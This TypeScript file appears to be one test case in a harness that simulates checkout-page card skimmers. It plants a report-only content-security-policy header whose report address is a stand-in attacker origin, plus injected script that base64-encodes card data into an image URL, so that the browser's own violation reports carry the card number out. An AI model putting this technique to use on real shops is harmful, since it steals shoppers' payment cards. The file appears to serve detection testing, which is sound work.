import { holds, js, skimmer } from '../behaviour.ts';
import { base64, bodies } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'csp-report',
  why: 'An added policy that only reports forbids all pictures and names the attacker as the place for reports: the browser itself posts the address of every picture there.',
  covers: ['hard: unusual channel', 'sending: beacon'],
  base: 'direct',
  install: (site) => {
    site.header(
      'shop/checkout/payment',
      'content-security-policy-report-only',
      `img-src 'none'; report-uri ${site.origins.evil}/r`,
    );
    site.append(onPay(js`new Image().src = '/media/banner.png?v=' + encodeURIComponent(btoa(card()));`));
  },
  proof: holds((arrived) =>
    bodies(arrived).map((body) =>
      base64(decodeURIComponent(/banner\.png\?v=([\w%+/=]+)/.exec(body)?.[1] ?? '')),
    ),
  ),
});
